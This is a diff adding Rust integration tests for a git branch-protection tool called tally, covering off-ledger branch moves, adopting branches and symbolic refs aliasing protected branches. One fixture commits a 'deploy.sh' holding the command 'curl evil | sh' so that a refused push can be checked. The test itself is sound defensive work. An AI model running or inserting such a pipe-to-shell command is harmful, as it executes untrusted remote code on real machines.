@@ -286,6 +286,26 @@ fn protected_branches_are_protected_inside_every_namespace() {
         .unwrap();
     assert!(!out.status.success());
     assert_eq!(server.rev(ns_main).as_deref(), Some(good.as_str()));
+
+    // Moved with the hooks off, it is re-baselined by its full name, as verify says.
+    let base = server.branch("main").unwrap();
+    run_ok(server.git().args([
+        "-c",
+        "core.hooksPath=/dev/null",
+        "update-ref",
+        ns_main,
+        &base,
+    ]));
+    let verify = server.tally(&["ledger", "verify"]);
+    let stderr = String::from_utf8_lossy(&verify.stderr);
+    assert!(
+        stderr.contains(&format!("tally ledger adopt --branch {ns_main}")),
+        "{stderr}"
+    );
+    let adopt = server.tally(&["ledger", "adopt", "--branch", ns_main, "--commit", &good]);
+    assert_eq!(adopt.status.code(), Some(0), "{adopt:?}");
+    assert_eq!(server.rev(ns_main).as_deref(), Some(good.as_str()));
+    server.assert_ledger_intact();
 }
 
 /// Issue 10, class 3: repository formats tally cannot read whole are refused by name, at
@@ -456,4 +476,76 @@ fn a_verdict_belongs_to_its_push_only() {
         "{accepted:?}"
     );
     server.assert_ledger_intact();
+}
+
+/// Review of issue 10: the tip of another protected branch that moved outside tally must not
+/// count as already-judged history when a new protected branch is created from it (or when
+/// a branch is adopted): only what the ledger recorded does.
+#[test]
+fn a_new_branch_from_an_off_ledger_tip_is_judged_down_to_the_ledger() {
+    let env = TestEnv::new();
+    let server = env.server(&alice_and_bob(), &["main", "release/*"]);
+    let work = env.clone_as(&server, "work", &alice());
+    work.commit("base").file("base.yaml", "a: 1\n").create();
+    work.push_main_ok();
+    work.push(&["origin", "HEAD:refs/heads/release/x"])
+        .assert_accepted();
+    let off = HooksOff::new(&server);
+    let evil = work
+        .commit("evil")
+        .file("deploy.sh", "curl evil | sh\n")
+        .unsigned()
+        .create();
+    work.push(&["origin", "HEAD:refs/heads/release/x"])
+        .assert_accepted();
+    off.restore();
+    let push = work.push(&["origin", &format!("{evil}:refs/heads/release/z")]);
+    push.assert_refused();
+    push.line_with(&["deploy.sh", "file type not allowed"]);
+    assert_eq!(server.branch("release/z"), None);
+    let adopt = server.tally(&["ledger", "adopt", "--branch", "release/x"]);
+    assert_eq!(adopt.status.code(), Some(1), "{adopt:?}");
+}
+
+/// Review of issue 10: a symbolic ref to a protected branch is that branch under another
+/// name. Creating one on the server is refused; pushing to one that exists is refused as
+/// such, not judged as an unprotected ref.
+#[test]
+fn symbolic_refs_to_a_protected_branch_are_refused() {
+    let env = TestEnv::new();
+    let server = env.server(&alice_and_bob(), &[]);
+    let work = env.clone_as(&server, "work", &alice());
+    work.commit("base").file("base.yaml", "a: 1\n").create();
+    work.push_main_ok();
+    let out = server
+        .git()
+        .args(["symbolic-ref", "refs/heads/alias", "refs/heads/main"])
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(!out.status.success(), "{stderr}");
+    assert!(
+        stderr.contains("would become a symbolic ref to the protected branch refs/heads/main"),
+        "{stderr}"
+    );
+    assert_eq!(
+        stderr.matches("would become a symbolic ref").count(),
+        1,
+        "{stderr}"
+    );
+    // One made with the hooks off: a push to it is refused by name.
+    run_ok(server.git().args([
+        "-c",
+        "core.hooksPath=/dev/null",
+        "symbolic-ref",
+        "refs/heads/alias",
+        "refs/heads/main",
+    ]));
+    work.commit("next").file("b.yaml", "b: 1\n").create();
+    let push = work.push(&["origin", "HEAD:refs/heads/alias"]);
+    push.assert_refused();
+    push.line_with(&[
+        "refs/heads/alias is a symbolic ref to the protected branch refs/heads/main",
+        "fix: push to refs/heads/main itself",
+    ]);
 }
